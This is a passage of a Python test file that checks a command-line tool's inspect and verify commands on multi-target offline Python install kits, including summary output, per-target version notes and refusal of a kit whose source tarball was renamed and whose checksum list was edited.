    as_json = CliRunner().invoke(main, ["inspect", "--json", str(kit)])
    import json

    rows = {t["name"]: t["python_source"] for t in json.loads(as_json.stdout)["targets"]}
    assert rows == {t36.name: "Python-3.6.15.tgz", t311.name: None}
    html = CliRunner().invoke(main, ["inspect", "--html", str(tmp_path / "r.html"), str(kit)])
    assert html.exit_code == 0, html.output
    page = (tmp_path / "r.html").read_text()
    assert f"No CPython source in this kit for target {t311.name}" in page
    # the summary cards show every target, not only the first (#16 review16d finding 3)
    cards = dict(re.findall(r'class="card">([^<]*)<b>([^<]*)</b>', page))
    assert cards["Python"] == f"{t36.python_version} / {t311.python_version}"
    assert cards["Platform"] == "manylinux1_x86_64 / manylinux2014_x86_64"
    assert cards["Targets"] == "2" and f"{t36.name}, {t311.name}</div>" in page
    assert (cards["App wheels"], cards["pip bootstrap"]) == ("1", "0")
    # another patch release of each target's X.Y: verify checks each target's, as pack does
    # (#16 review16d finding 1: verify checked none of a several-target kit's)
    python_tarballs(inputs["sources"], "3.6.10", "3.11.2")
    other = tmp_path / "out" / "kit-other.tar.gz"
    assert CliRunner().invoke(main, [*argv, "--no-controller", "-o", str(other)]).exit_code == 0
    checked = CliRunner().invoke(main, ["verify", str(other)])
    assert checked.exit_code == 0, checked.output
    for target, source in ((t36, "Python-3.6.10.tgz"), (t311, "Python-3.11.2.tgz")):
        version = source.removeprefix("Python-").removesuffix(".tgz")
        assert (
            f"note: target {target.name}: sources/{source}: CPython {version} source; "
            f"wheelhouse resolved for {target.python_version}"
        ) in checked.output
    unpacked = tmp_path / "unpacked"
    kept = CliRunner().invoke(main, ["verify", "--unpack", str(unpacked), str(other)])
    assert kept.exit_code == 0, kept.output
    kit_dir = next(unpacked.iterdir())
    (kit_dir / "sources" / "Python-3.11.2.tgz").rename(kit_dir / "sources" / "Python-3.11.0.tgz")
    listed = kit_dir / "SHA256SUMS"
    listed.write_text(listed.read_text().replace("Python-3.11.2.tgz", "Python-3.11.0.tgz"))
    refused = CliRunner().invoke(main, ["verify", str(kit_dir)])
    assert refused.exit_code == 1, refused.output
    assert (
        f"wheelhouse/{wheelhouse_wheel(wheelhouse, 'app')}: for the kit's CPython 3.11.0 "
        "(sources/Python-3.11.0.tgz): Requires-Python !=3.11.0,>=3.6 excludes CPython 3.11.0"
        f" (target {t311.name})"  # which target's wheel (#16 verification review, wording)
    ) in refused.output


def wheelhouse_wheel(wheelhouse: Path, project: str) -> str:
    """The file name of `project`'s wheel in a wheelhouse's pool."""
    return next(p.name for p in wheelhouse.glob(f"{project}-*.whl"))
